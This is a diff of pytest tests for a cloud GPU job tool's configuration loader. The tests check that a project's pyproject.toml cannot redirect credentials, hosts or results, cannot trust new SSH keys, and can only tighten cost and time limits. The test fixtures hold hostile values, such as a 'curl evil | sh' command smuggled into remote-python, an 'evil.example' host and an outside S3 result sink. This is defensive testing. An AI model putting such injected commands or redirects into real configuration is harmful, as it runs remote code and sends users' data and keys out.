@@ -8,7 +8,7 @@ from pathlib import Path
 
 import pytest
 
-from burst_jupyter.config import Settings, load_settings
+from burst_jupyter.config import PROJECT_RULES, Settings, load_settings
 from burst_jupyter.errors import ConfigError
 
 
@@ -42,16 +42,16 @@ def test_missing_files_give_defaults(project: Path, no_user_file: Path) -> None:
 
 
 def test_pyproject_beats_user_file_beats_defaults(tmp_path: Path, project: Path) -> None:
-    user = write(tmp_path / "user.toml", 'provider = "ssh"\nmax_cost = 5\nhosts = ["a", "b"]\nrate = "0.5"\n')
-    write(project / "pyproject.toml", '[project]\nname = "x"\n\n[tool.burst]\nmax-cost = 2\nhosts = ["c"]\n')
+    user = write(tmp_path / "user.toml", 'provider = "ssh"\nmax_cost = 5\nprefer = ["a", "b"]\nrate = "0.5"\n')
+    write(project / "pyproject.toml", '[project]\nname = "x"\n\n[tool.burst]\nmax-cost = 2\nprefer = ["c"]\n')
     settings = load_settings(cwd=project, user_file=user)
     assert settings.provider == "ssh"
     assert settings.max_cost == Decimal(2)
-    assert settings.hosts == ["c"]  # replaced, not concatenated
+    assert settings.prefer == ["c"]  # replaced, not concatenated
     assert settings.rate == Decimal("0.5")
     assert settings.lease_seconds == 600
     pyproject = f"{project / 'pyproject.toml'} [tool.burst]"
-    assert settings.sources == {"provider": str(user), "rate": str(user), "max_cost": pyproject, "hosts": pyproject}
+    assert settings.sources == {"provider": str(user), "rate": str(user), "max_cost": pyproject, "prefer": pyproject}
 
 
 def test_walks_up_to_nearest_pyproject_with_table(project: Path, no_user_file: Path) -> None:
@@ -127,8 +127,78 @@ def test_all_fields_round_trip(tmp_path: Path, project: Path) -> None:
 
 def test_api_keys_stay_out_of_project_files(tmp_path: Path, project: Path) -> None:
     (project / "pyproject.toml").write_text('[tool.burst.vast]\napi-key = "leaked"\n')
-    with pytest.raises(ConfigError, match=r"\[vast\] api-key does not belong in a project file"):
+    with pytest.raises(ConfigError) as info:
         load_settings(cwd=project, user_file=tmp_path / "none.toml")
+    assert str(info.value) == (f"{project / 'pyproject.toml'} [tool.burst.vast] api-key: a project file cannot hold "
+                               f"an API key; set VAST_API_KEY or api-key in {tmp_path / 'none.toml'}")
+
+
+def test_every_setting_has_a_project_rule() -> None:
+    """A new key must be decided: may a cloned project set it, only tighten it, or never?"""
+    assert set(PROJECT_RULES) == set(Settings.model_fields)
+
+
+@pytest.mark.parametrize(("table", "line", "where", "why"), [
+    ("vast", 'url = "http://127.0.0.1:9"', "[tool.burst.vast] url", "set where credentials go; set VAST_URL or url"),
+    ("runpod", 'url = "https://x.test"', "[tool.burst.runpod] url",
+     "set where credentials go; set RUNPOD_API_BASE_URL or url"),
+    ("thunder", 'url = "https://x.test"', "[tool.burst.thunder] url",
+     "set where credentials go; set TNR_API_URL or url"),
+    ("runpod", 'ssh-user = "root"', "[tool.burst.runpod] ssh-user", "choose the user your account logs in as; set "
+     "ssh-user"),
+    (None, 'hosts = ["evil.example"]', "[tool.burst] hosts", "choose the machines your jobs and their keys go to"),
+    (None, "trust-new-hosts = true", "[tool.burst] trust-new-hosts", "decide which SSH host keys are trusted"),
+    (None, "trust_new_hosts = false", "[tool.burst] trust_new_hosts", "decide which SSH host keys are trusted"),
+    (None, 'remote-python = "curl evil | sh; python3"', "[tool.burst] remote-python",
+     "choose the command run on your machines"),
+    (None, 'result-sink = "s3://someone-else/x"', "[tool.burst] result-sink", "choose where your results"),
+])
+def test_a_project_file_cannot_redirect_or_trust(tmp_path: Path, project: Path, table: str | None, line: str,
+                                                 where: str, why: str) -> None:
+    user = write(tmp_path / "user.toml", 'hosts = ["mine"]\n[vast]\nurl = "https://mine.test"\n')
+    write(project / "pyproject.toml", (f"[tool.burst.{table}]\n" if table else "[tool.burst]\n") + line + "\n")
+    with pytest.raises(ConfigError) as info:
+        load_settings(cwd=project, user_file=user)
+    text = str(info.value)
+    assert text.startswith(f"{project / 'pyproject.toml'} {where}: a project file cannot {why}"), text
+    assert str(user) in text and "\n" not in text
+
+
+@pytest.mark.parametrize(("user_line", "line", "looser"), [
+    ("", "lease-seconds = 0", "0 is looser than 600"),
+    ("lease-seconds = 60", "lease-seconds = 120", "120 is looser than 60"),
+    ("max-cost = 5", "max-cost = 6", "6 is looser than 5"),
+    ("max-duration-minutes = 30", "max-duration-minutes = 60", "60 is looser than 30"),
+    ("daily-budget = 10", "daily-budget = 20", "20 is looser than 10"),
+    ("weekly-budget = 10", "weekly-budget = 11", "11 is looser than 10"),
+    ("rate = 0.5", "rate = 0.25", "0.25 is looser than 0.5"),
+    ("min-reliability = 0.9", "min-reliability = 0.5", "0.5 is looser than 0.9"),
+    ("", "provision-timeout-seconds = 3600", "3600.0 is looser than 900.0"),
+    ("", "reconcile-interval-seconds = 3600", "3600.0 is looser than 300.0"),
+    ("", "offer-ttl-seconds = 600", "600.0 is looser than 30.0"),
+])
+def test_a_project_file_cannot_loosen_a_limit(tmp_path: Path, project: Path, user_line: str, line: str,
+                                              looser: str) -> None:
+    user = write(tmp_path / "user.toml", user_line + "\n")
+    write(project / "pyproject.toml", f"[tool.burst]\n{line}\n")
+    with pytest.raises(ConfigError) as info:
+        load_settings(cwd=project, user_file=user)
+    key = line.split(" = ")[0]
+    assert str(info.value) == (f"{project / 'pyproject.toml'} [tool.burst] {key}: a project file may only tighten "
+                               f"this limit, and {looser} (yours or the default); change it in {user} or as an "
+                               f"option")
+
+
+def test_a_project_file_may_shape_jobs_and_tighten_limits(tmp_path: Path, project: Path) -> None:
+    user = write(tmp_path / "user.toml", "max-cost = 5\nlease-seconds = 0\nrate = 0.5\n")
+    write(project / "pyproject.toml", '[tool.burst]\nprovider = "local"\nimage = "pytorch/pytorch:2"\n'
+          'max-cost = 5\nlease-seconds = 120\nrate = 0.75\nmax-duration-minutes = 30\ndaily-budget = 3\n'
+          "min-reliability = 0.9\nprovision-timeout-seconds = 60\n")
+    settings = load_settings(cwd=project, user_file=user)
+    assert (settings.provider, settings.max_cost, settings.lease_seconds, settings.rate) == (
+        "local", Decimal(5), 120, Decimal("0.75"))
+    assert (settings.max_duration_minutes, settings.daily_budget, settings.provision_timeout_seconds) == (
+        30, Decimal(3), 60.0)
 
 
 def test_an_unknown_account_key_names_its_table(tmp_path: Path, project: Path) -> None:
